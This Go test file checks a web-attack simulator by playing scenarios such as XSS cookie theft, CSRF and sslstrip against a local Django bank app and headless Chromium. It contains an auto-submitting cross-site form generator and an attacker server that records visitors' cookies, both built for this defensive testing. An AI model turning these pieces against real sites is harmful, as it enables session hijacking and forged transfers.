package sim

// TestScenariosRealStack checks the engine's scenario verdicts end to end:
// each scenario it knows how to play is played, as its sim script tells it,
// on a real Django and a real Chromium together, and the outcome the attack
// reached there (a transfer made, the attacker served as alice, the victim
// working in mallory's account, ...) must be s.Run(cfg, false).Verdict.Outcome.
//
// The stack:
//
//   - Django: Django 5.2 (django_real_test.go) serving testdata/django/bank for
//     real (testdata/django/live.py: wsgiref, plain HTTP and TLS on one port,
//     a certificate made here), on conformance.py's virtual clock, configured
//     per case from the same Config keys conformance.py takes. Pages get the
//     forms a template would render from the view's token; SECURE_CSP
//     (Django 6.0) is the header sim.SecureCSPPolicy names, added by live.py.
//   - The victim: /usr/bin/chromium, headless, one browser context per case
//     (its own cookies, HSTS store and HTTPS-Upgrades state; a case that
//     closes the browser has a browser of its own, below), reaching
//     bank.example.com, blog.example.com and evil.example.net without ports
//     (--host-resolver-rules maps each name to its server's port, and one
//     port answers both schemes), so Origin, Referer and Host are the
//     model's. The certificate is trusted by its SPKI hash
//     (--ignore-certificate-errors-spki-list): Chromium records HSTS only
//     from a connection without certificate errors. Cases with
//     https_upgrades=False run in a second Chromium with the HttpsUpgrades
//     feature off (realStack.startChromium): a browser that does not try
//     https:// first.
//   - The attacker: a raw Go HTTP client (replays, its own login), pages on
//     evil.example.net and blog.example.com served by this test, a script
//     injected into the site's pages (a stored XSS), or live.py rewriting
//     plain-HTTP answers, blocking TLS or relaying as sslstrip (an on-path
//     attacker), exactly as each script describes.
//   - Closing the browser (shared-computer-browser-close): the case gets a
//     Chromium of its own on a profile on disk (a browser context made over
//     DevTools is off the record: its cookies never reach the disk), with
//     "Continue where you left off" in the profile's Preferences when
//     session_restore is on. The victim closes it with Browser.close,
//     Chromium's own quit, and the next person starts it again on the same
//     profile: the cookies it then holds are what the real Chromium kept
//     (realRun.closeBrowser).
//   - hsts_preloaded: the preload list is built into Chromium and cannot
//     hold example.com, so such a case gets a Chromium of its own too, with
//     example.com and its subdomains added to the profile's dynamic HSTS
//     store through chrome://net-internals, which Chromium obeys alike
//     (realRun.preloadHSTS).
//   - Time: Django's clock is virtual; Chromium's is not. When the clock
//     moves, a persistent cookie whose Max-Age has run out on the virtual
//     clock is deleted from the browser, as the browser would have dropped
//     it (realRun.advance). Chromium's other clocks (the two minutes of
//     Lax-allowing-unsafe, HSTS max-age) cannot be moved: cases that depend
//     on them are not played.
//
// The cases: the four presets, then -real.n single-setting variations per
// scenario drawn with -real.seed from the settings its Toggles list (every
// candidate value, and the typed values of realTypedValues) and its Fixes on
// each preset; by hand, -real.mix adds
// variations of two to four such settings at once, -real.all draws from
// every setting, and -real.scenario plays one scenario only (the same
// cases it plays in a whole run). A disagreement prints the case as a
// command line and as a TestTruths config, the model's trace and the real
// one.
//
//	go test ./sim -run TestScenariosRealStack -real.n 40 -real.seed 7 -v
//
// Played (realScenarios): basics, xss-cookie-theft, xss-session-riding,
// csrf-cross-site-post, csrf-cross-site-get, csrf-sibling-post, login-csrf,
// replay-after-logout, subdomain-cookie-leak, password-change-eviction,
// idle-walkaway, shared-computer-browser-close, stolen-cookie-kept-alive,
// session-fixation, wifi-sniffing and ssl-strip. Not played:
//
//   - browser=firefox or safari: the real browser is Chromium.
//   - csrf-cross-site-post with no SameSite and a cookie two minutes old or
//     more (Lax-allowing-unsafe counts on Chromium's clock; -real.wait plays
//     them by waiting the two minutes out for real, about 2 minutes a case),
//     and ssl-strip with an HSTS max-age shorter than the day between the
//     victim's visits (so does HSTS expiry).
//   - stolen-cookie-kept-alive beyond 300 replays: the check replays at
//     every scheduled time, where the model skips ahead.

import (
	"bufio"
	"cmp"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"flag"
	"fmt"
	"hash/fnv"
	"html"
	"io"
	"log"
	"maps"
	"math"
	"math/big"
	mrand "math/rand/v2"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/storage"
	"github.com/chromedp/chromedp"
)

// ---- the stack: a live Django, an attacker's web server, a Chromium ----

// liveDjango is testdata/django/live.py: the bank site served for real on
// one port (plain HTTP and HTTPS), driven by JSON commands on stdin.
type liveDjango struct {
	cmd  *exec.Cmd
	in   io.WriteCloser
	out  *bufio.Reader
	port string
	mu   sync.Mutex
}

// liveEntry is one request the site served, as live.py logs it.
type liveEntry struct {
	At         int               `json:"at"`
	Scheme     string            `json:"scheme"`
	Method     string            `json:"method"`
	Path       string            `json:"path"`
	Query      string            `json:"query"`
	Cookie     string            `json:"cookie"`
	Origin     string            `json:"origin"`
	Referer    string            `json:"referer"`
	Status     int               `json:"status"`
	User       string            `json:"user"`
	Did        string            `json:"did"`
	SetCookies []string          `json:"set_cookies"`
	Stripped   bool              `json:"stripped"` // relayed by sslstrip
	Form       map[string]string `json:"form"`
	HSTS       string            `json:"hsts"`
}

func (e liveEntry) String() string {
	s := fmt.Sprintf("t+%ds %s %s://%s%s", e.At, e.Method, e.Scheme, SiteHost, e.Path)
	if e.Query != "" {
		s += "?" + e.Query
	}
	if e.Cookie != "" {
		s += " Cookie: " + e.Cookie
	}
	if e.Origin != "" {
		s += " Origin: " + e.Origin
	}
	if e.Stripped {
		s += " (relayed as https:// by sslstrip)"
	}
	if len(e.Form) > 0 {
		s += " Body: " + formBody(e.Form)
	}
	s += " -> " + strconv.Itoa(e.Status)
	if e.Did != "" {
		s += " " + e.Did
	}
	if e.User != "" {
		s += " as " + e.User
	}
	if e.HSTS != "" {
		s += "\n\t\tStrict-Transport-Security: " + e.HSTS
	}
	for _, c := range e.SetCookies {
		s += "\n\t\tSet-Cookie: " + strings.TrimSpace(c)
	}
	return s
}

func startLiveDjango(t *testing.T, cert, key string) *liveDjango {
	t.Helper()
	cmd := djangoCommand(nil, "live.py", cert, key)
	cmd.Dir = filepath.Join("testdata", "django")
	cmd.Stderr = os.Stderr
	in, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	outp, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	d := &liveDjango{cmd: cmd, in: in, out: bufio.NewReader(outp)}
	t.Cleanup(func() {
		in.Close()
		done := make(chan struct{})
		go func() { cmd.Wait(); close(done) }()
		select {
		case <-done:
		case <-time.After(5 * time.Second):
			cmd.Process.Kill()
			<-done
		}
	})
	line, err := d.out.ReadString('\n')
	if err != nil || !strings.HasPrefix(line, "ready ") {
		t.Fatalf("live.py did not start: %q %v", line, err)
	}
	d.port = strings.TrimSpace(strings.TrimPrefix(line, "ready "))
	return d
}

// call sends one command and decodes its answer into out (when not nil).
func (d *liveDjango) call(t *testing.T, c map[string]any, out any) {
	t.Helper()
	d.mu.Lock()
	defer d.mu.Unlock()
	b, _ := json.Marshal(c)
	if _, err := d.in.Write(append(b, '\n')); err != nil {
		t.Fatalf("live.py %v: %v", c["cmd"], err)
	}
	line, err := d.out.ReadString('\n')
	if err != nil {
		t.Fatalf("live.py %v: %v", c["cmd"], err)
	}
	var ok struct {
		OK    bool   `json:"ok"`
		Error string `json:"error"`
	}
	if err := json.Unmarshal([]byte(line), &ok); err != nil || !ok.OK {
		t.Fatalf("live.py %v: %s %v", c["cmd"], line, err)
	}
	if out != nil {
		if err := json.Unmarshal([]byte(line), out); err != nil {
			t.Fatal(err)
		}
	}
}

// attackerSite is the attacker's web server for evil.example.net and
// blog.example.com, on one port for both schemes (the first byte of a
// connection tells TLS from plain HTTP): each case installs its handler and
// reads what arrived. Against a plain-HTTP site evil.example.net and
// blog.example.com serve plain HTTP only (World.attackerPage,
// World.siblingPage), and csrf-sibling-post's sibling serves the scheme the
// model's attacker picks (World.siblingFormPage): a name that serves plain
// HTTP refuses TLS, so Chromium's HTTPS-Upgrades falls back to http://.
type attackerSite struct {
	srv     *http.Server
	port    string
	mu      sync.Mutex
	handler func(w http.ResponseWriter, r *http.Request) // the case's; nil serves pages only
	seen    []string                                     // "host path?query Cookie: ..." of every request
	noTLS   map[string]bool                              // the names that refuse TLS
}

func newAttackerSite(t *testing.T, cert tls.Certificate) *attackerSite {
	a := &attackerSite{}
	a.srv = &http.Server{ErrorLog: log.New(io.Discard, "", 0), Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a.mu.Lock()
		a.seen = append(a.seen, r.Host+" "+r.URL.RequestURI()+" Cookie: "+strings.Join(r.Header.Values("Cookie"), "; "))
		h := a.handler
		a.mu.Unlock()
		w.Header().Set("Cache-Control", "no-store")
		w.Header().Set("Content-Type", "text/html")
		if h != nil {
			h(w, r)
			return
		}
		w.Write([]byte("<!doctype html><title>" + html.EscapeString(r.Host) + "</title><body></body>"))
	})}
	cfg := &tls.Config{Certificates: []tls.Certificate{cert}, GetConfigForClient: func(h *tls.ClientHelloInfo) (*tls.Config, error) {
		a.mu.Lock()
		defer a.mu.Unlock()
		if a.noTLS[h.ServerName] {
			return nil, errors.New(h.ServerName + " serves plain HTTP only")
		}
		return nil, nil
	}}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	_, a.port, _ = net.SplitHostPort(l.Addr().String())
	go a.srv.Serve(newSniffListener(l, cfg))
	t.Cleanup(func() { a.srv.Close() })
	return a
}

// sniffListener hands out a TLS server connection when a connection starts
// with a TLS handshake record, the plain connection otherwise.
type sniffListener struct {
	net.Listener
	conns chan net.Conn
	done  chan struct{}
	once  sync.Once
}

func newSniffListener(l net.Listener, cfg *tls.Config) *sniffListener {
	s := &sniffListener{Listener: l, conns: make(chan net.Conn), done: make(chan struct{})}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				s.Close()
				return
			}
			go func() {
				br := bufio.NewReader(c)
				c.SetReadDeadline(time.Now().Add(20 * time.Second))
				b, err := br.Peek(1)
				c.SetReadDeadline(time.Time{})
				if err != nil {
					c.Close()
					return
				}
				var conn net.Conn = &peekedConn{Conn: c, r: br}
				if b[0] == 0x16 {
					conn = tls.Server(conn, cfg)
				}
				select {
				case s.conns <- conn:
				case <-s.done:
					c.Close()
				}
			}()
		}
	}()
	return s
}

func (s *sniffListener) Accept() (net.Conn, error) {
	select {
	case c := <-s.conns:
		return c, nil
	case <-s.done:
		return nil, net.ErrClosed
	}
}

func (s *sniffListener) Close() error {
	s.once.Do(func() { close(s.done) })
	return s.Listener.Close()
}

type peekedConn struct {
	net.Conn
	r *bufio.Reader
}

func (c *peekedConn) Read(p []byte) (int, error) { return c.r.Read(p) }

func (a *attackerSite) reset(h func(w http.ResponseWriter, r *http.Request)) {
	a.mu.Lock()
	a.handler, a.seen = h, nil
	a.mu.Unlock()
}

func (a *attackerSite) requests() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return append([]string(nil), a.seen...)
}

// realCert is a self-signed certificate for the world's three hosts.
func realCert(t *testing.T, dir string) (tls.Certificate, string, string, string) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1),
		Subject:      pkix.Name{CommonName: SiteHost},
		DNSNames:     []string{SiteHost, SiblingHost, AttackerHost, "*.example.com"},
		NotBefore:    time.Now().Add(-time.Hour),
		NotAfter:     time.Now().Add(24 * time.Hour),
		KeyUsage:     x509.KeyUsageDigitalSignature,
		ExtKeyUsage:  []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	kb, err := x509.MarshalECPrivateKey(key)
	if err != nil {
		t.Fatal(err)
	}
	certPEM := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
	keyPEM := pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: kb})
	cf, kf := filepath.Join(dir, "cert.pem"), filepath.Join(dir, "key.pem")
	if err := os.WriteFile(cf, certPEM, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(kf, keyPEM, 0o600); err != nil {
		t.Fatal(err)
	}
	c, err := tls.X509KeyPair(certPEM, keyPEM)
	if err != nil {
		t.Fatal(err)
	}
	spki, err := x509.MarshalPKIXPublicKey(&key.PublicKey)
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(spki)
	return c, cf, kf, base64.StdEncoding.EncodeToString(sum[:])
}

// realStack is the whole world: Django, the attacker's server, Chromium.
type realStack struct {
	django *liveDjango
	atk    *attackerSite
	raw    *http.Client // the attacker's command-line client

	opts []chromedp.ExecAllocatorOption // Chromium's command line but its profile and features
	dir  string
	t    *testing.T // the test the shared browsers live as long as
	// browsers are the shared Chromiums, for the cases that do not close
	// theirs: true, as shipped (HTTPS-Upgrades on), and false, started when
	// a case first needs it, with HTTPS-Upgrades off.
	browsers map[bool]context.Context
}

// browserOpts is Chromium's command line with the profile at dir, for the
// cases with cfg.HTTPSUpgrades = upgrades. Without upgrades Chromium runs
// with the HttpsUpgrades feature off (features::kHttpsUpgrades, which
// chrome/browser/ssl/https_upgrades_navigation_throttle.cc needs), so an
// http:// navigation goes out over http://, as in a browser from before
// HTTPS-Upgrades.
func (s *realStack) browserOpts(dir string, upgrades bool) []chromedp.ExecAllocatorOption {
	opts := append(slices.Clip(s.opts), chromedp.UserDataDir(dir))
	if !upgrades {
		// chromedp's own disabled features, and HttpsUpgrades.
		opts = append(opts, chromedp.Flag("disable-features", "Translate,BlinkGenPropertyTrees,HttpsUpgrades"))
	}
	return opts
}

// sharedBrowser is the shared Chromium for upgrades, started on first use.
func (s *realStack) sharedBrowser(upgrades bool) context.Context {
	if b := s.browsers[upgrades]; b != nil {
		return b
	}
	profile := "profile"
	if !upgrades {
		profile = "profile-no-upgrades"
	}
	ctx, cancel := context.WithCancel(context.Background())
	s.t.Cleanup(cancel)
	actx, acancel := chromedp.NewExecAllocator(ctx, s.browserOpts(filepath.Join(s.dir, profile), upgrades)...)
	s.t.Cleanup(acancel)
	bctx, bcancel := chromedp.NewContext(actx)
	s.t.Cleanup(bcancel)
	if err := chromedp.Do(bctx); err != nil { // start the browser
		s.t.Fatalf("starting Chromium: %v", err)
	}
	s.browsers[upgrades] = bctx
	return bctx
}

func newRealStack(t *testing.T) *realStack {
	t.Helper()
	dir := t.TempDir()
	cert, cf, kf, spki := realCert(t, dir)
	s := &realStack{django: startLiveDjango(t, cf, kf), atk: newAttackerSite(t, cert)}
	atkPort := s.atk.port
	// bank.example.com on both schemes goes to live.py's one port, the
	// attacker's hosts to their HTTPS server: URLs carry no port, so
	// Origin, Referer and Host are what the model sees.
	rules := "MAP " + SiteHost + " 127.0.0.1:" + s.django.port +
		", MAP " + AttackerHost + " 127.0.0.1:" + atkPort +
		", MAP " + SiblingHost + " 127.0.0.1:" + atkPort +
		", MAP " + ParentDomain[1:] + " 127.0.0.1:" + atkPort +
		", MAP * ~NOTFOUND"
	s.opts = append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(chromiumPath),
		chromedp.NoSandbox,
		chromedp.Flag("disable-gpu", true),
		chromedp.Flag("disable-component-update", true),
		chromedp.Flag("host-resolver-rules", rules),
		// The certificate counts as valid (unlike with
		// ignore-certificate-errors, which leaves the error on the
		// connection, and then Chromium ignores Strict-Transport-Security:
		// TransportSecurityState is only told of HSTS on a connection
		// without certificate errors).
		chromedp.Flag("ignore-certificate-errors-spki-list", spki),
	)
	s.dir, s.t, s.browsers = dir, t, map[bool]context.Context{}
	s.sharedBrowser(true)
	s.raw = &http.Client{
		Transport: &http.Transport{
			DialContext: func(ctx context.Context, network, _ string) (net.Conn, error) {
				return (&net.Dialer{}).DialContext(ctx, network, "127.0.0.1:"+s.django.port)
			},
			TLSClientConfig:   &tls.Config{InsecureSkipVerify: true},
			DisableKeepAlives: true,
		},
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
		Timeout:       10 * time.Second,
	}
	return s
}

// ---- one case: a Config played on the stack ----

// realRun is one scenario played on the real stack under one Config.
type realRun struct {
	t     *testing.T
	s     *realStack
	cfg   Config
	ctx   context.Context // the victim's tab, in a browser context of its own
	trace []string
	now   int // virtual seconds since Epoch

	seen map[string]cookieSeen // cookie identity -> when first seen

	logins []bool // whether each of the victim's logins (logIn) worked, in order

	// A case that closes the browser runs in a Chromium of its own.
	profile string          // its user-data-dir; "" in the shared browser
	base    context.Context // the case's deadline, which its browsers run under
	quit    func()          // kills its browser
}

// cookieSeen is when the harness first saw a cookie in the browser: the
// virtual time, and the real time just before the action that set it.
type cookieSeen struct {
	virt int
	real time.Time
}

// newRun sets the site up for cfg and gives the victim a browser: a new
// browser context of the shared Chromium, or with own a Chromium of its own
// on a profile on disk, which the case can close and start again (a
// browser context made over DevTools is off the record: its cookies never
// reach the disk).
func (s *realStack) newRun(t *testing.T, cfg Config, own bool, timeout time.Duration) (*realRun, func()) {
	settings := make(map[string]string, len(Fields))
	for _, f := range Fields {
		settings[f.Key] = f.Get(&cfg)
	}
	fields := map[string]string{}
	for _, u := range fixtureUsers {
		fields[u.name] = u.password
	}
	s.django.call(t, map[string]any{"cmd": "config", "settings": settings, "secret_key": SecretKey, "password_fields": fields}, nil)
	if !cfg.HTTPS {
		// A plain-HTTP deployment has no certificate: nothing answers TLS.
		s.django.call(t, map[string]any{"cmd": "inject", "block_tls": true}, nil)
	}
	s.atk.reset(nil)
	s.atk.mu.Lock()
	s.atk.noTLS = map[string]bool{AttackerHost: !cfg.HTTPS, SiblingHost: !cfg.HTTPS, ParentDomain[1:]: true}
	s.atk.mu.Unlock()
	r := &realRun{t: t, s: s, cfg: cfg, seen: map[string]cookieSeen{}}
	if own || cfg.HSTSPreloaded { // the stand-in preload goes in the profile's own HSTS store

		tctx, tcancel := context.WithTimeout(context.Background(), timeout)
		r.base, r.profile = tctx, filepath.Join(t.TempDir(), "profile")
		if cfg.SessionRestore {
			// "Continue where you left off": session.restore_on_startup is
			// SessionStartupPref's kPrefValueLast, 1
			// (chrome/browser/prefs/session_startup_pref.h).
			if err := os.MkdirAll(filepath.Join(r.profile, "Default"), 0o700); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(r.profile, "Default", "Preferences"), []byte(`{"session":{"restore_on_startup":1}}`), 0o600); err != nil {
				t.Fatal(err)
			}
		}
		r.launch()
		return r, func() { r.quit(); tcancel() }
	}
	tctx, tcancel := context.WithTimeout(s.sharedBrowser(cfg.HTTPSUpgrades), timeout)
	ctx, cancel := chromedp.NewContext(tctx, chromedp.WithNewBrowserContext())
	r.ctx = ctx
	return r, func() { cancel(); tcancel() }
}

// launch starts the case's own Chromium on its profile.
func (r *realRun) launch() {
	actx, acancel := chromedp.NewExecAllocator(r.base, r.s.browserOpts(r.profile, r.cfg.HTTPSUpgrades)...)
	ctx, cancel := chromedp.NewContext(actx)
	r.ctx, r.quit = ctx, func() { cancel(); acancel() }
	if err := chromedp.Do(ctx); err != nil {
		r.fatal(fmt.Errorf("starting Chromium on %s: %v", r.profile, err))
	}
	if r.cfg.HSTSPreloaded {
		r.preloadHSTS()
	}
}

// preloadHSTS stands in for the preload list, which is built into Chromium
// and cannot hold example.com: it adds example.com with includeSubDomains,
// the entry the model preloads (newWorld), to the profile's dynamic
// HSTS store through chrome://net-internals/#hsts ("Add HSTS domain",
// TransportSecurityState::AddHSTS). For every host of the scenarios the two
// act alike: Chromium upgrades a host with a dynamic or a static entry
// (TransportSecurityState::ShouldUpgradeToSSL), and Django never sends the
// max-age=0 that would remove a dynamic one.
func (r *realRun) preloadHSTS() {
	if err := chromedp.Do(r.ctx, chromedp.Navigate("chrome://net-internals/#hsts")); err != nil {
		r.fatal(err)
	}
	got := evalIn[string](r, `(async () => {
		const $ = (id) => document.getElementById(id);
		$("hsts-view-add-input").value = `+strconv.Quote(ParentDomain[1:])+`;
		$("hsts-view-check-sts-input").checked = true;
		$("hsts-view-add-submit").click();
		for (let i = 0; i < 50; i++) {
			$("hsts-view-query-input").value = `+strconv.Quote(ParentDomain[1:])+`; // not a subdomain, which may have an entry of its own
			$("hsts-view-query-submit").click();
			await new Promise((ok) => setTimeout(ok, 100));
			const out = $("hsts-view-query-output").innerText;
			if (out.includes("dynamic_sts_domain: `+ParentDomain[1:]+`")) return out;
		}
		return $("hsts-view-query-output").innerText;
	})()`)
	if !strings.Contains(got, "dynamic_sts_domain: "+ParentDomain[1:]+"\n") || !strings.Contains(got, "dynamic_upgrade_mode: FORCE_HTTPS") || !strings.Contains(got, "dynamic_sts_include_subdomains: true") {
		r.fatal(fmt.Errorf("net-internals did not take the stand-in preload entry: %q", got))
	}
	r.logf("the browser has example.com with includeSubDomains in its HSTS store (the stand-in for the preload list)")
}

// closeBrowser is the victim closing the browser, and the next person
// starting it again on the same profile. Browser.close is Chromium's own
// quit (chrome/browser/devtools/protocol/browser_handler.cc
// BrowserHandler::Close, ChromeDevToolsManagerDelegate::CloseBrowserSoon:
// chrome::ExitIgnoreUnloadHandlers), which writes the cookie store out. At
// the start, SQLitePersistentCookieStore deletes the session cookies
// (Backend::DeleteSessionCookiesOnStartup) unless
// ProfileImpl::ShouldRestoreOldSessionCookies: the startup pref restores
// the last session, or that session crashed.
func (r *realRun) closeBrowser() {
	// The tab leaves the site first: Chromium restores a session's tabs
	// with its cookies and would reload the page at the start, a request
	// the model's story does not make. Which page is open has no part in
	// which cookies are kept.
	r.logf("the victim's tab leaves the site (about:blank)")
	if err := chromedp.Do(r.ctx, chromedp.Navigate("about:blank")); err != nil {
		r.fatal(err)
	}
	held := r.cookies()
	if err := chromedp.Cancel(r.ctx); err != nil {
		r.fatal(fmt.Errorf("closing Chromium: %v", err))
	}
	r.quit()
	r.logf("the victim closes the browser (Browser.close); it held %s", cookieList(held))
	// A crash would restore the session cookies whatever the setting.
	var prefs struct {
		Profile struct {
			ExitType string `json:"exit_type"`
		} `json:"profile"`
	}
	b, err := os.ReadFile(filepath.Join(r.profile, "Default", "Preferences"))
	if err == nil {
		err = json.Unmarshal(b, &prefs)
	}
	if err != nil || prefs.Profile.ExitType != "Normal" {
		r.fatal(fmt.Errorf("Chromium did not record a normal exit (profile.exit_type %q, %v)", prefs.Profile.ExitType, err))
	}
	r.launch()
	kept := r.cookies()
	for _, c := range kept {
		if _, ok := r.seen[cookieID(c)]; !ok {
			r.fatal(fmt.Errorf("after the restart Chromium holds %s=%s, which it did not hold before", c.Name, c.Value))
		}
	}
	r.logf("the browser starts again on the same profile; it holds %s", cookieList(kept))
}

// cookieList names cookies for the trace.
func cookieList(cs []*network.Cookie) string {
	if len(cs) == 0 {
		return "no cookies"
	}
	var names []string
	for _, c := range cs {
		kind := "persistent"
		if c.Session {
			kind = "session cookie"
		}
		names = append(names, c.Name+"="+short(c.Value)+" ("+kind+")")
	}
	return strings.Join(names, ", ")
}

func (r *realRun) logf(format string, args ...any) {
	r.trace = append(r.trace, fmt.Sprintf(format, args...))
}

func (r *realRun) fatal(err error) {
	r.t.Helper()
	r.t.Fatalf("%v\nreal trace so far:\n\t%s", err, strings.Join(r.trace, "\n\t"))
}

// serverLog fetches the requests the site served since the last call and
// adds them to the trace.
func (r *realRun) serverLog() []liveEntry {
	var out struct{ Log []liveEntry }
	r.s.django.call(r.t, map[string]any{"cmd": "log"}, &out)
	for _, e := range out.Log {
		r.logf("  server: %s", e)
	}
	return out.Log
}

// siteURL is a page of the site, on the scheme of the deployment.
func (r *realRun) siteURL(path string) string {
	return r.siteScheme() + "://" + SiteHost + path
}

// siteScheme is the scheme the site is deployed on.
func (r *realRun) siteScheme() string {
	if r.cfg.HTTPS {
		return "https"
	}
	return "http"
}

// advance moves the virtual clock of Django and of the victim's cookies:
// Chromium's own clock does not move, so a persistent cookie whose expiry,
// counted on the virtual clock, has passed is deleted from the browser, as
// the browser would have dropped it (RFC 6265bis §5.7; Chromium
// CanonicalCookie::IsExpired: expired when now >= expiry). A cookie's
// lifetime is its Expires less the real time just before the action that
// set it, in whole seconds: its Max-Age (the actions take well under a
// second).
func (r *realRun) advance(secs int) {
	if secs == 0 {
		return
	}
	r.noteCookies(time.Now())
	r.s.django.call(r.t, map[string]any{"cmd": "advance", "seconds": secs}, nil)
	r.now += secs
	r.logf("the clock moves %ds (t+%ds)", secs, r.now)
	for _, c := range r.cookies() {
		if c.Session || c.Expires <= 0 {
			continue
		}
		seen := r.seen[cookieID(c)]
		life := int(math.Floor(c.Expires - float64(seen.real.UnixNano())/1e9))
		if life-(r.now-seen.virt) <= 0 {
			r.logf("  browser: %s=%s (Domain %s, Max-Age %d) expired on the virtual clock", c.Name, short(c.Value), c.Domain, life)
			if _, err := chromedp.Call(r.ctx, network.DeleteCookies, network.DeleteCookiesParams{Name: c.Name, Domain: c.Domain, Path: c.Path}); err != nil {
				r.fatal(err)
			}
		}
	}
}

func cookieID(c *network.Cookie) string {
	return c.Name + "\x00" + c.Domain + "\x00" + c.Path + "\x00" + c.Value + "\x00" + strconv.FormatFloat(c.Expires, 'f', 3, 64)
}

// noteCookies records when each new cookie appeared: now on the virtual
// clock, and before, the real time before the action that set it.
func (r *realRun) noteCookies(before time.Time) {
	for _, c := range r.cookies() {
		if _, ok := r.seen[cookieID(c)]; !ok {
			r.seen[cookieID(c)] = cookieSeen{r.now, before}
		}
	}
}

// cookies is every cookie of the victim's browser context.
func (r *realRun) cookies() []*network.Cookie {
	res, err := chromedp.CallBrowser(r.ctx, storage.GetCookies, storage.GetCookiesParams{BrowserContextID: chromedp.FromContext(r.ctx).BrowserContextID})
	if err != nil {
		r.fatal(err)
	}
	return res.Cookies
}

// sessionCookie is the value of the session cookie the browser would send
// to the account page, as World.victimSessionCookie reads it (the last of
// several, as Django reads them): from the header itself when the tab is on
// the site (accountCookieHeader), else from DevTools' list, which is right
// unless two cookies share the name.
func (r *realRun) sessionCookie() string {
	if here := evalIn[string](r, `location.href`); strings.HasPrefix(here, r.siteURL("/")) {
		return cookieValue(r.accountCookieHeader(), r.cfg.SessionCookieName)
	}
	res, err := chromedp.Call(r.ctx, network.GetCookies, network.GetCookiesParams{URLs: []string{r.siteURL(loginRedirect)}})
	if err != nil {
		r.fatal(err)
	}
	v := ""
	for _, c := range res.Cookies {
		if c.Name == r.cfg.SessionCookieName {
			v = c.Value
		}
	}
	return v
}

// open is the victim typing a URL.
func (r *realRun) open(u string) {
	before := time.Now()
	r.logf("victim opens %s", u)
	if err := chromedp.Do(r.ctx, chromedp.Navigate(u)); err != nil {
		r.logf("  browser: %v", err)
	}
	r.noteCookies(before)
}

// navigateBy runs js in the current page and waits for the navigation it
// starts to load.
func (r *realRun) navigateBy(js string) {
	before := time.Now()
	if _, err := chromedp.Run(r.ctx, chromedp.WaitEvent(page.LoadEventFired, nil, chromedp.Evaluate[chromedp.Void](js))); err != nil {
		r.logf("  browser: %v", err)
	}
	r.noteCookies(before)
}

// follow clicks a link to u on the current page, a page of the site (one
// is typed first when the tab is elsewhere).
func (r *realRun) follow(u string) {
	if here := evalIn[string](r, `location.href`); !strings.HasPrefix(here, r.siteURL("/")) {
		r.open(r.siteURL("/"))
	}
	r.logf("victim clicks a link to %s", u)
	r.navigateBy(`{const a = document.createElement("a"); a.href = ` + strconv.Quote(u) + `; document.body.append(a); a.click()}`)
}

// submit fills the named form of the current page and submits it. It
// waits for the form first: a navigation that HTTPS-Upgrades falls back
// to plain HTTP may still be committing when open returns.
func (r *realRun) submit(form string, fields map[string]string) {
	r.logf("victim submits the %s form %v", form, fields)
	if _, err := chromedp.Run(r.ctx, chromedp.Poll[bool](`!!document.forms[`+strconv.Quote(form)+`]`, chromedp.WithPollingTimeout(10*time.Second))); err != nil {
		r.logf("  no %s form on %s: %v", form, evalIn[string](r, `location.href`), err)
	}
	js := `{const f = document.forms[` + strconv.Quote(form) + `];`
	for k, v := range fields {
		js += `f.elements[` + strconv.Quote(k) + `].value = ` + strconv.Quote(v) + `;`
	}
	r.navigateBy(js + `f.submit()}`)
}

// fromPage loads a page of the attacker's host with the given body and
// runs js there (the page's own script, which starts a navigation).
func (r *realRun) fromPage(pageURL, js string) {
	r.open(pageURL)
	r.logf("the page at %s runs %s", pageURL, js)
	r.navigateBy(js)
}

// autoPost is a page's hidden form, auto-submitted to u.
func autoPost(u string, form map[string]string) string {
	js := `{const f = document.createElement("form"); f.method = "POST"; f.action = ` + strconv.Quote(u) + `;`
	for k, v := range form {
		js += `{const i = document.createElement("input"); i.name = ` + strconv.Quote(k) + `; i.value = ` + strconv.Quote(v) + `; f.append(i)}`
	}
	return js + `document.body.append(f); f.submit()}`
}

// logIn is the model's logIn: the victim opens the login page and submits
// alice's credentials; it reports whether the page it lands on is alice's
// and the session cookie the browser then holds still opens her session
// (World.loginStuck).
func (r *realRun) logIn() bool {
	r.open(r.siteURL("/login/"))
	r.submit("login", map[string]string{"username": victimName, "password": passwordOf(victimName)})
	ok := r.lastServedAs(victimName) && r.sessionUserID(r.sessionCookie()) == "1"
	r.logins = append(r.logins, ok)
	return ok
}

// accountCookieHeader is the Cookie header the browser would send to the
// account page now, from a page of the site: live.py echoes it without
// Django. (DevTools lists cookies in an order of its own, so the header's
// last cookie of a name, which Django reads, is not always the list's.)
func (r *realRun) accountCookieHeader() string {
	return evalIn[string](r, `fetch("/account/.cookie-echo", {credentials: "same-origin"}).then(r => r.text())`)
}

// sessionUserID is the user id the session key opens now ("" when none),
